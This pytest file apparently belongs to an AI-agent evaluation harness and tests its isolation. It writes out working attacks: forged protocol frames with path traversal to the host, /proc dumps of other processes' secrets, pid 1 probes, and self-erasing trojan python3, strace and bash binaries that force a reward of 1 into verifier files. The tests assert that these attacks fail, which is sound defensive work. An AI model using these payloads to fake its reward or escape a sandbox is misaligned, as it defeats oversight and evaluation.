"""What the agent can see and reach of the harness: its processes, protocol, secrets, binaries.

DESIGN.md ("Threat model"): nothing the agent runs may see, signal, read, write or ptrace the
harness's own processes, pipes, trace or protocol; every byte that comes out of the container is
untrusted input on the host and never builds a host path.
"""

import json
import re
from pathlib import Path

import pytest

from .attacks import py

pytestmark = pytest.mark.docker

# Issue #22 (a): open the shim's stdout through /proc and write forged protocol frames: a result
# whose trace claims a write, then the snapshot answer for it whose "sha256" (a file name on the
# host, under the trial's content/) climbs out to {{PWN}}.
FORGED_FRAME = py(r'''
import struct
TARGET = "{{PWN}}"
rel = "../" * 40 + TARGET.lstrip("/")

def frame(header, *blobs):
    header = dict(header, blobs=[len(b) for b in blobs])
    raw = json.dumps(header).encode()
    return struct.pack(">I", len(raw)) + raw + b"".join(blobs)

line = ('%d 1796281630.949036 openat(-100</app>, "/app/pwn.txt", 0x241, 0666) = 3</app/pwn.txt>\n'
        % os.getpid()).encode()
result = frame({"op": "result", "seq": 1, "exit_code": 0, "duration_s": 0.1, "timed_out": False,
                "shell_restarted": False, "stdout_dropped": 0, "stderr_dropped": 0},
               b"FORGED-FRAME-ACCEPTED\n", b"", line)
snap = frame({"op": "snapshot", "entries": [{"path": "/app/pwn.txt", "kind": "file", "size": 6,
              "sha256": rel, "mode": 420, "text": True}]}, b"pwned\n")
shim, strace = harness()
report = {"shim": shim, "wrote": [], "errors": []}
for pid in shim:
    try:
        fd = os.open("/proc/%d/fd/1" % pid, os.O_WRONLY)
        os.write(fd, result + snap)
        os.close(fd)
        report["wrote"].append(pid)
    except OSError as exc:
        report["errors"].append(str(exc))
print(json.dumps(report))
''')

# Everything the agent's /proc shows: command lines, environments, names of all processes.
PROC_DUMP = py(r'''
procs = []
for pid in sorted(visible()):
    entry = {"pid": pid}
    for key in ("cmdline", "environ", "comm", "status"):
        try:
            raw = open("/proc/%d/%s" % (pid, key), "rb").read()
            entry[key] = raw.replace(b"\0", b" ").decode("utf-8", "replace").strip()
        except OSError:
            entry[key] = None
    procs.append(entry)
print(json.dumps({"self": os.getpid(), "procs": procs}))
''')

# pid 1 of whatever PID namespace the agent is in: its secrets and handles.
PID1_PROBE = py(r'''
report = {}
def attempt(name, fn):
    try:
        fn()
        report[name] = "ok"
    except OSError as exc:
        report[name] = exc.strerror
attempt("environ", lambda: open("/proc/1/environ", "rb").read())
def open_fds():  # the fds themselves (their numbers alone tell nothing)
    names = os.listdir("/proc/1/fd")
    for n in names:
        os.readlink("/proc/1/fd/" + n)
        os.close(os.open("/proc/1/fd/" + n, os.O_RDONLY | os.O_NONBLOCK))
    if not names:
        raise OSError(0, "no fds")
attempt("fd", open_fds)
attempt("mem", lambda: open("/proc/1/mem", "rb").close())
attempt("root", lambda: os.listdir("/proc/1/root/"))
print(json.dumps(report))
''')

# The reward writer a trojan leaves behind: reward 1 into every /logs/verifier it can reach,
# its own and, through /proc/<pid>/root, any other mount namespace's (a private verifier tmpfs);
# written aside and renamed over reward.txt, so the host never reads a half-written file.
WRITER = ("( for i in $(seq 1 600); do last=/logs/verifier; "
          "[ -d $last ] && echo 1 > $last/.tc && mv -f $last/.tc $last/reward.txt; "
          "for r in /proc/[0-9]*/root; do d=\"$r/logs/verifier\"; "
          "[ -d \"$d\" ] && ! [ \"$d\" -ef \"$last\" ] || continue; last=\"$d\"; "
          "echo 1 > \"$d/.tc\" && mv -f \"$d/.tc\" \"$d/reward.txt\"; done; "
          "sleep 0.05; done ) </dev/null >/dev/null 2>&1 &")

# Own attack: a PATH python3 that the next python3 run (the harness starting the verifier's
# shim with `python3`) executes with the harness's privileges; it leaves the writer and erases
# itself, so the verifier's own python3 is the image's and no toolchain file the verifier runs
# is the agent's.
TROJAN_PYTHON3 = f"""mkdir -p /usr/local/bin
cat > /usr/local/bin/python3 <<'TC_SH'
#!/bin/sh
rm -f /usr/local/bin/python3
{WRITER}
exec /usr/bin/python3 "$@"
TC_SH
chmod 755 /usr/local/bin/python3 && echo planted"""

# Own attack: the same through strace, which the harness runs untraced to trace a new shell;
# the trojan puts the real strace back before running it.
TROJAN_STRACE = f"""mv /usr/bin/strace /usr/bin/.strace.real
cat > /usr/bin/strace <<'TC_SH'
#!/bin/sh
mv -f /usr/bin/.strace.real /usr/bin/strace
{WRITER}
exec /usr/bin/strace "$@"
TC_SH
chmod 755 /usr/bin/strace && echo planted"""

# Own attack: a bash earlier on PATH; a verifier shell started by name after the agent ran is
# this trojan, which leaves the writer in the verifier's own namespace and erases itself.
TROJAN_BASH = f"""mkdir -p /usr/local/bin
cat > /usr/local/bin/bash <<'TC_SH'
#!/bin/sh
rm -f /usr/local/bin/bash
{WRITER}
exec /usr/bin/bash "$@"
TC_SH
chmod 755 /usr/local/bin/bash && echo planted"""

TRIALS = {
    "forged-frame": {"victim": "hello-kill", "steps": [{"cmd": FORGED_FRAME, "timeout": 20}]},
    "recon-isolation": {"victim": "hello-keep", "steps": [
        PROC_DUMP,
        PID1_PROBE,
        "timeout 3 strace -p 1 -e trace=none 2>&1; echo \"rc=$?\"",
    ]},
    "trojan-python3": {"victim": "hello-kill", "steps": [TROJAN_PYTHON3]},
    "trojan-strace": {"victim": "hello-kill", "steps": [TROJAN_STRACE]},
    "trojan-bash": {"victim": "hello-kill", "steps": [TROJAN_BASH]},
}


@pytest.mark.trial("forged-frame")
def test_forged_protocol_frame_creates_no_host_file(campaign):
    t = campaign["forged-frame"]
    pwn = Path(campaign.facts["PWN"])
    assert not pwn.exists(), (
        f"a forged frame created a host file outside the run: {pwn} "
        f"(step stdout {t.out(0)[-300:]!r}); {t.summary()}")
    assert "FORGED-FRAME-ACCEPTED" not in t.out(0), "the host took a forged result frame"
    report = t.json_out(0)
    assert report["shim"] == [], f"the agent sees the shim: {report}"


@pytest.mark.trial("recon-isolation")
def test_agent_proc_shows_no_harness_process(campaign):
    t = campaign["recon-isolation"]
    dump = t.json_out(0)
    seen = [p for p in dump["procs"] if p["pid"] != dump["self"]]
    assert seen, "the dump lists no other process (not even the agent's bash)"
    harness = [
        p for p in seen
        if p["comm"] == "strace" or "strace" in (p["cmdline"] or "")
        # pid 1 of the agent's own namespace may be the harness's reaper (it cannot be
        # ptraced or read: test_pid1_...); any other process naming termcredit is the harness
        or (p["pid"] != 1 and "termcredit" in (p["cmdline"] or ""))
        or (p["pid"] != 1 and (p["comm"] or "").startswith("python"))
    ]
    shown = [f"{p['pid']} {p['comm']}: {(p['cmdline'] or '')[:120]}" for p in harness]
    assert harness == [], f"harness processes visible in the agent's /proc: {shown}"


@pytest.mark.trial("recon-isolation")
def test_harness_nonce_not_visible_to_agent(campaign):
    t = campaign["recon-isolation"]
    dump = json.dumps(t.json_out(0))
    secrets_ = set(re.findall(r"/__termcredit__/([0-9A-Za-z_-]{6,})", t.traces()))
    secrets_ |= {s.get("end_token") for s in t.steps if s.get("end_token")}
    assert secrets_, "no marker secret found in the trial's traces (marker format changed?)"
    leaked = sorted(s for s in secrets_ if s in dump)
    assert leaked == [], f"marker secrets readable in other processes' cmdline/environ: {leaked}"


@pytest.mark.trial("recon-isolation")
def test_pid1_is_not_readable_or_traceable(campaign):
    t = campaign["recon-isolation"]
    probe = t.json_out(1)
    assert probe and all(v != "ok" for v in probe.values()), f"/proc/1 is open to the agent: {probe}"
    out = t.out(2) + t.step(2).get("stderr", "")
    assert "rc=" in out, f"strace -p 1 did not report: {out!r}"
    assert "attached" not in out, f"the agent ptrace-attached to pid 1: {out!r}"


@pytest.mark.trial("trojan-python3")
def test_harness_does_not_run_python3_planted_by_agent(campaign):
    t = campaign["trojan-python3"]
    assert "planted" in t.out(0), t.step(0)
    assert t.reward == 0.0 or t.suspect, (
        "a self-erasing /usr/local/bin/python3 run by the harness wrote the reward: " + t.summary())


@pytest.mark.trial("trojan-strace")
def test_harness_does_not_run_strace_planted_by_agent(campaign):
    t = campaign["trojan-strace"]
    assert "planted" in t.out(0), t.step(0)
    assert t.reward == 0.0 or t.suspect, (
        "a self-restoring /usr/bin/strace run by the harness wrote the reward: " + t.summary())


@pytest.mark.trial("trojan-bash")
def test_verifier_shell_is_not_a_bash_planted_by_agent(campaign):
    t = campaign["trojan-bash"]
    assert "planted" in t.out(0), t.step(0)
    assert t.reward == 0.0 or t.suspect, (
        "a self-erasing /usr/local/bin/bash started as the verifier's shell wrote the reward: "
        + t.summary())
